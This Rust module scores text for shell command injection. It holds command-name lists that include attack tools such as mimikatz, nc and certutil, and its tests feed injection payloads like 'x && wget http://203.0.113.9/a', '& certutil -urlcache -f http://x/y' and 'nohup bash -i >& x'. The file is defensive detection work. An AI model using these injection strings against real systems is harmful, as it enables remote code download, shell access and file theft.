//! Shell commands by place: a word is a command where a shell would run it, and its arguments tell whether it is one.
//!
//! Places are the start of the text and what follows `;`, `|`, `&`, a line end, a backtick, `$(`. Quotes, backslashes,
//! carets and empty expansions inside the word (`wh''oami`, `c\at`, `w$@get`) are taken out as the shell would, and
//! count as evidence. Names that are English words too (`cat`, `time`, `find`) need an argument that only a command has.
//!
//! Invariants: linear time (at most [`PLACES_MAX`] places, [`ARGUMENTS_MAX`] arguments each); no allocation beyond one
//! word. Weights: 5 is enough alone (see `score`).

use std::collections::HashMap;
use std::sync::LazyLock;

use super::score::Clue;

/// Places looked at in one text.
const PLACES_MAX: usize = 64;
/// Arguments looked at behind a command.
const ARGUMENTS_MAX: usize = 6;
/// Longest command name.
const NAME_BYTES_MAX: usize = 24;
/// Wrappers followed (`sudo time nice sh`).
const WRAPPERS_MAX: usize = 3;

/// How sure a name is a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Name {
    /// An English word as well.
    Word,
    /// Nothing but a command (or the name of a product).
    Sure,
    /// Runs the command in its arguments; an English word as well.
    Wrapper,
    /// The same, and no word.
    SureWrapper,
}

const WORDS: &str = "at cat cut date echo eval expand expect export fetch file find finger fold free halt head help host \
    install join jobs kill last less link links locate login look mail make man mesg more mount mv open paste patch \
    ping pr print printf read reboot reset rev screen script service set shred shutdown sleep sort source split start \
    stop strings sum sync tail talk tar tee test top touch tree true type unset update users view wait wall \
    watch which who w write yes zip route arp dir copy del move ren net reg assoc attrib cls ver vol query dot node ip ss \
    go rust swift cargo gem snap perf env base64 history alias pip npm yarn composer php perl python ruby bash java irb awk \
    sed ed ex vi id ls ll rc su ps df du";
const SURE: &str = "alpine apk apt apt-get aptitude aa-disable aa-exec ansible-playbook ash aspell aws basename bconsole blkid \
    bpftrace bridge bunzip2 bzcat bzip2 c89 c99 cancel capsh certbot check_by_ssh chattr chfn chgrp chmod choom chown \
    chpass chsh cmp cobc comm cowsay cpan cpio cpulimit crash crontab csh csplit csvtool cupsfilter curl dash dhclient \
    dialog diff dig dirname dmesg dmidecode dnf dnsdomainname doas docker dosbox dpkg dvips easy_install egrep emacs \
    env_parallel esh facter fgrep fping ftp gawk gcc g++ gcore gdb genie genisoimage getent ghc ghci ginsh git \
    gpasswd grep groupadd gtester gunzip gzcat gzip hash hd hexdump hostid hostname htop hup iconv iftop ifconfig ionice \
    iptables ispell jjs jq jrunscript julia ksh ksshell kubectl latex ldconfig lftp logname logsave lpr lsb_release \
    lsmod lsof lspci lsusb ltrace lua luac lwp-download lwp-request lynx lz4 lzma mawk mkdir mkfifo mknod mlocate mosquitto mtr \
    multitool mutt mysql mysqldump nasm nawk nc nc.openbsd nc.traditional ncat netcat netplan netstat nft nl nmap nohup nslookup \
    octave od onintr openssl openvpn openvt passwd pax pdftex pdksh pftp pgrep pico pidstat pigz pinky pkexec pkill pkg_info \
    popd posh prename psed psftp psql ptx puppet pushd pwd pwsh python2 python3 rake rbash rcp readelf realpath redcarpet \
    restic rlogin rlwrap rm rmdir rmt rmuser rpm rpmquery rpmverify rsync rtorrent run-mailcap run-parts rview rvim \
    scp scrot sftp sh slsh smbclient snmpd socat soelim sqlite3 ssconvert ssh sshd sudoedit svn sysctl systemctl \
    tclsh tcpdump tcsh telnet tex tftp tmate tmux traceroute tshark ttyname ulimit unalias uname uncompress unexpand \
    uniq unlzma unrar unxz unzip unzstd useradd userdel usermod uudecode uuencode valgrind vim vimdiff vipw visudo volatility \
    wget whereis whiptail whoami whois wine wpm xdg-user-dir xelatex xetex xmodmap xmore xpad xterm xxd xz xzcat yelp \
    yum zcat zcmp zdiff zegrep zfgrep zgrep zless zmore zsh zsoelim zstd zypper fish zdump nproc tasklist \
    systeminfo ipconfig powershell powershell.exe cmd.exe certutil certutil.exe bitsadmin mshta regedit regsvr32 rundll32 \
    wmic wscript cscript schtasks taskkill netsh icacls cacls takeown vssadmin wevtutil msiexec installutil odbcconf \
    psexec procdump nltest dsquery adfind ntdsutil tracert nbtstat getmac whoami.exe findstr xcopy robocopy diskpart bcdedit \
    msbuild.exe cmstp forfiles pcalua rasdial sc.exe net.exe net1 mimikatz chcp runas dcdiag gpresult diskshadow esentutl \
    useradd adduser addgroup add-apt-repository ansible ansible-config ansible-console ansible-doc ansible-galaxy ansible-inventory ansible-pull ansible-vault arj base32 chef-client chef-run chef-shell chef-solo chef-vault cscli knife pip3 pipx ssh-copy-id ssh-keygen uconv batch busctl byobu bsdtar busybox-ash cpan5 chroot \
    lscpu lsblk printenv readlink stat insmod modprobe depmod killall lastlog lastlogin lastcomm mailx mkpasswd newgrp \
    ip6tables iptables-save iwconfig mii-tool ncftp nmcli nsenter rpcinfo showmount unshare vmstat vgcreate \
    uptime tac trap expr umask";
const WRAPPERS: &str =
    "time nice command exec env watch do then else if while until builtin parallel coproc call start";
const SURE_WRAPPERS: &str = "nohup sudo doas busybox xargs strace ltrace setsid stdbuf unbuffer taskset ionice chrt timeout \
    eatmydata flock cpulimit toybox catchsegv ssh-agent setarch linux32 linux64 logsave script pkexec chroot su cmd";

static NAMES: LazyLock<HashMap<&'static str, Name>> = LazyLock::new(|| {
    let lists = [
        (WORDS, Name::Word),
        (SURE, Name::Sure),
        (WRAPPERS, Name::Wrapper),
        (SURE_WRAPPERS, Name::SureWrapper),
    ];
    lists
        .iter()
        .flat_map(|(list, name)| list.split_ascii_whitespace().map(move |word| (word, *name)))
        .collect()
});

/// Commands that print who or where one is: attackers run them alone to see whether it works.
const PROBES: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "ls",
    "pwd",
    "env",
    "hostname",
    "netstat",
    "systeminfo",
    "tasklist",
    "ps",
    "w",
    "dir",
    "printenv",
];

/// Why a place is one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    Start,
    /// After a separator; `true` when a space stands between.
    Separated(bool),
}

/// A command word as it stands at a place.
struct Command<'a> {
    name: Name,
    word: &'a str,
    /// Quotes or escapes stood inside the word, or around it.
    hidden: bool,
    quoted: bool,
    /// Wrappers or path in front of it.
    wrapped: bool,
    full_path: bool,
    rest: &'a str,
}

/// What the arguments look like.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Arguments {
    /// Words of prose.
    Prose,
    /// Nothing, or the next separator.
    None,
    /// A file or host name.
    Names,
    /// Flags, paths, variables, redirections.
    Sure,
}

/// Judges every place of the text.
pub(super) fn judge(text: &str, mut tell: impl FnMut(Clue)) {
    let mut buffer = String::new();
    let mut separated = 0_u8;
    for (place, at) in places(text) {
        let Some(command) = command(&text[at..], &mut buffer, 0) else { continue };
        let weight = weigh(place, &command);
        if weight > 0 {
            let name = if command.hidden {
                "hidden command"
            } else if place == Place::Start {
                "command"
            } else {
                separated = separated.saturating_add(1);
                "separated command"
            };
            tell(Clue { name, weight, from: at, to: text.len() });
        }
    }
}

/// The start of the text and every place behind a separator.
fn places(text: &str) -> impl Iterator<Item = (Place, usize)> {
    let bytes = text.as_bytes();
    let mut at = 0;
    let found = std::iter::from_fn(move || {
        loop {
            let gap = bytes
                .get(at..)?
                .iter()
                .position(|byte| matches!(byte, b';' | b'|' | b'&' | b'\n' | b'`' | b'(' | b'{'))?;
            at += gap + 1;
            let opens = match bytes[at - 1] {
                b'(' => at >= 2 && matches!(bytes[at - 2], b'$' | b'<' | b'>' | b';' | b'&' | b'|' | b'('),
                b'{' => bytes.get(at) == Some(&b' ') || at >= 2 && matches!(bytes[at - 2], b';' | b')'),
                _ => true,
            };
            if opens {
                let spaced = bytes.get(at) == Some(&b' ');
                return Some((Place::Separated(spaced), at));
            }
        }
    });
    std::iter::once((Place::Start, 0)).chain(found).take(PLACES_MAX)
}

/// The command at the start of the text, through assignments, variables, paths and wrappers.
fn command<'a>(text: &'a str, buffer: &mut String, depth: usize) -> Option<Command<'a>> {
    let text = skip_noise(text);
    let (raw, rest) = split_word(text);
    if raw.is_empty() || raw.len() > 4 * NAME_BYTES_MAX {
        return None;
    }
    let (base, full_path) = match raw.rfind('/') {
        Some(slash) if raw.contains("bin/") || raw.contains("bin/") => (&raw[slash + 1..], true),
        _ => (raw, false),
    };
    let (hidden, quoted) = plain_word(base, buffer);
    let name = *NAMES.get(buffer.as_str())?;
    if rest.starts_with('=') || rest.starts_with(":/") {
        return None;
    }
    if matches!(name, Name::Wrapper | Name::SureWrapper) && depth < WRAPPERS_MAX {
        let after = skip_flags(rest);
        if let Some(inner) = command(after, buffer, depth + 1) {
            let sure = name == Name::SureWrapper || inner.wrapped;
            return Some(Command {
                wrapped: sure || inner.name != Name::Word,
                hidden: hidden || inner.hidden,
                full_path: full_path || inner.full_path,
                ..inner
            });
        }
        plain_word(base, buffer);
    }
    Some(Command { name, word: base, hidden, quoted, wrapped: false, full_path, rest })
}

/// Past spaces, signs of negation, assignments (`A=b `) and variables (`$a `) in front of a command.
fn skip_noise(text: &str) -> &str {
    let mut rest = text;
    for _ in 0..ARGUMENTS_MAX {
        rest = rest.trim_start_matches([' ', '\t', '!', '{', '\\', ';', '&', '|']);
        let Some(space) = rest.find(' ') else { return rest };
        let word = &rest[..space];
        let is_variable = word.starts_with('$') && word.len() > 1 && !word.starts_with("$(");
        let is_assignment = word.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        });
        if !is_variable && !is_assignment {
            return rest;
        }
        rest = &rest[space + 1..];
    }
    rest
}

/// Past the flags of a wrapper (`nice -n 5`, `timeout 3`).
fn skip_flags(text: &str) -> &str {
    let mut rest = text.trim_start();
    for _ in 0..ARGUMENTS_MAX {
        let word = rest.split(' ').next().unwrap_or("");
        let is_flag = word.starts_with('-')
            || (!word.is_empty()
                && word.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b's' | b'm' | b'+'))
                && word.as_bytes()[0].is_ascii_digit())
            || word == "/c";
        if !is_flag {
            break;
        }
        rest = rest[word.len()..].trim_start();
    }
    rest
}

/// The first word as a shell cuts it, quotes and escapes still in it, and the rest.
fn split_word(text: &str) -> (&str, &str) {
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        match byte {
            b'\\' => at += 1,
            b'$' if bytes
                .get(at + 1)
                .is_some_and(|next| matches!(next, b'@' | b'*' | b'!' | b'1'..=b'9' | b'{' | b'u')) =>
            {
                let skip =
                    if bytes[at + 1] == b'{' { memchr::memchr(b'}', &bytes[at..]).unwrap_or(1) } else { 1 };
                at += skip;
            }
            b'a'..=b'z'
            | b'0'..=b'9'
            | b'_'
            | b'-'
            | b'.'
            | b'/'
            | b'\''
            | b'"'
            | b'^'
            | b'+'
            | b'?'
            | b'*' => {}
            _ => break,
        }
        at += 1;
    }
    text.split_at(text.floor_char_boundary(at.min(text.len())))
}

/// Writes the word without what a shell takes out; tells whether something stood inside it, and whether around it.
fn plain_word(raw: &str, out: &mut String) -> (bool, bool) {
    out.clear();
    let bytes = raw.as_bytes();
    let (mut hidden, mut at, mut first_quote) = (false, 0, false);
    let mut quotes = 0_usize;
    while let Some(&byte) = bytes.get(at) {
        match byte {
            b'\'' | b'"' => {
                quotes += 1;
                first_quote |= at == 0;
                hidden |= at > 0 && at + 1 < bytes.len();
            }
            b'\\' | b'^' => hidden |= at + 1 < bytes.len() && at > 0,
            b'$' => {
                hidden = true;
                at += if bytes.get(at + 1) == Some(&b'{') {
                    memchr::memchr(b'}', &bytes[at..]).unwrap_or(1)
                } else {
                    1
                };
            }
            byte => out.push(char::from(byte)),
        }
        at += 1;
    }
    // `'ls'` as a whole is quoted, not hidden; `'l's` is hidden.
    let whole =
        first_quote && quotes == 2 && bytes.len() > 2 && matches!(bytes[bytes.len() - 1], b'\'' | b'"');
    (hidden && !whole && quotes != 1, whole)
}

fn weigh(place: Place, command: &Command<'_>) -> u8 {
    let arguments = arguments(command.rest);
    if command.full_path {
        return 5;
    }
    if command.hidden {
        return if command.word.len() >= 4 { 5 } else { 3 };
    }
    let sure = matches!(command.name, Name::Sure | Name::SureWrapper);
    let probe = PROBES.contains(&command.word);
    let wrapped = u8::from(command.wrapped);
    match (place, arguments) {
        (_, Arguments::Sure) if sure => 5,
        (Place::Separated(_), Arguments::Sure) => 5,
        (Place::Start, Arguments::Sure) => {
            if command.rest.starts_with(" http") {
                3
            } else {
                5
            }
        }
        (Place::Separated(_), Arguments::Names) => {
            if sure {
                5
            } else {
                3
            }
        }
        (Place::Start, Arguments::Names) if sure => 4 + wrapped,
        (Place::Start, Arguments::Names) => 2 + 2 * wrapped,
        (Place::Separated(false), Arguments::None) if sure || probe => 5,
        (Place::Separated(true), Arguments::None) if sure || probe => 4,
        (Place::Separated(false), Arguments::None) => 2,
        (Place::Separated(false), Arguments::Prose) if sure => 5,
        (Place::Separated(true), Arguments::Prose) if sure => 3,
        (Place::Separated(_), Arguments::Prose) => 1,
        (Place::Start, Arguments::Prose) if sure => 2 + wrapped + 2 * u8::from(command.quoted),
        (Place::Start, Arguments::None) if sure && command.wrapped => 5,
        _ => 0,
    }
}

/// What follows a command, up to the next separator.
fn arguments(rest: &str) -> Arguments {
    let first = rest.as_bytes().first();
    match first {
        None | Some(b';' | b'|' | b'`' | b')' | b'\n' | b'}') => return Arguments::None,
        Some(b'&') if rest.len() == 1 || rest.starts_with("&&") => return Arguments::None,
        Some(b'<' | b'>' | b'$' | b'{' | b'"' | b'\'')
            if !rest.starts_with("<br") && !rest.starts_with("</") =>
        {
            return Arguments::Sure;
        }
        Some(b' ' | b',' | b'&') => {}
        Some(_) => return Arguments::Prose,
    }
    let end = rest.find([';', '|', '\n', '`']).unwrap_or(rest.len());
    let words = rest[..end].split(' ').filter(|word| !word.is_empty());
    let (mut best, mut count) = (Arguments::Prose, 0);
    for word in words.take(ARGUMENTS_MAX) {
        best = best.max(argument(word, count == 0));
        count += 1;
    }
    if count == 0 { Arguments::None } else { best }
}

fn argument(word: &str, first: bool) -> Arguments {
    let bytes = word.as_bytes();
    let letters = |text: &str| text.len() >= 2 && text.bytes().all(|byte| byte.is_ascii_alphabetic());
    match bytes[0] {
        b'-' if bytes.len() > 1
            && (bytes[1] == b'-' && bytes.len() > 3 || bytes[1].is_ascii_alphabetic())
            && first =>
        {
            return Arguments::Sure;
        }
        b'-' if bytes.len() > 2 && bytes.len() < 12 => return Arguments::Names,
        b'/' | b'~' if (bytes.len() > 1 || first) && !word.starts_with("/>") => return Arguments::Sure,
        b'$' if bytes.len() > 1 && !bytes[1].is_ascii_digit() => return Arguments::Sure,
        b'<' | b'>' if first || bytes.len() > 1 && matches!(bytes[1], b'<' | b'>' | b'&' | b'/') => {
            return Arguments::Sure;
        }
        b'.' if word.starts_with("./") || word.starts_with("../") || word.starts_with(".\\") => {
            return Arguments::Sure;
        }
        b'\'' | b'"' if first => return Arguments::Names,
        b'+' if first && bytes.len() > 1 && bytes[1].is_ascii_alphabetic() => return Arguments::Sure,
        _ => {}
    }
    if word.contains("://") || word.contains(":\\") || word.starts_with("hkey_") || word.contains('`') {
        return Arguments::Sure;
    }
    if word.split_once('=').is_some_and(|(name, value)| !name.is_empty() && !value.is_empty()) && first {
        return Arguments::Names;
    }
    let dotted = word.trim_end_matches(['.', ',', '!', '?', '"', '\'']);
    let named = dotted.rsplit_once('.').is_some_and(|(name, end)| !name.is_empty() && letters(end));
    let is_address = dotted.parse::<std::net::IpAddr>().is_ok();
    if is_address
        || named
        || (dotted.contains('/') && !dotted.contains("//"))
        || dotted.contains(".conf")
        || dotted.contains('@')
    {
        return Arguments::Names;
    }
    Arguments::Prose
}

#[cfg(test)]
mod tests {
    use super::*;

    fn most(text: &str) -> (u8, &'static str) {
        let mut best = (0, "nothing");
        judge(text, |clue| best = best.max((clue.weight, clue.name)));
        best
    }

    #[test]
    fn commands_where_a_shell_runs_them() {
        for text in [
            "1.1.1.1;cat /etc/hosts",
            "x|id",
            "x && wget http://203.0.113.9/a",
            "`uname -a`",
            "$(whoami)",
            "ls -la /var",
            "cat /etc/group",
            "; c\\at /etc/group",
            "wh''oami",
            "w\"g\"et example.org",
            "sudo sh -c id",
            "time curl -s example.org",
            "/usr/bin/python3 -c 1",
            "a=b;$a nc -e",
            "x\nping -c 3 192.0.2.1",
            "& certutil -urlcache -f http://x/y",
            "nohup bash -i >& x",
            "find / -name x",
        ] {
            assert!(most(text).0 >= 5, "{text}: {:?}", most(text));
        }
    }

    #[test]
    fn prose_is_none() {
        for text in [
            "time warner",
            "cats;sort=price",
            "find your solution here -> link",
            "python tutorial",
            "how to use curl",
            "that's the joke",
            "rock 'n' roll; more to come",
            "kill bill (2003)",
            "a;environment",
            "home | about",
            "docs | test",
            "mozilla/5.0 (x11; linux x86_64)",
            "curl/7.81.0",
            "c=d;o=a",
            "cut & paste",
            "times & schedule",
            "red;$5 each",
            "sort",
            "id",
            "o'keefe's",
            "size: 8\"x11\"",
        ] {
            assert!(most(text).0 < 5, "{text}: {:?}", most(text));
        }
    }
}
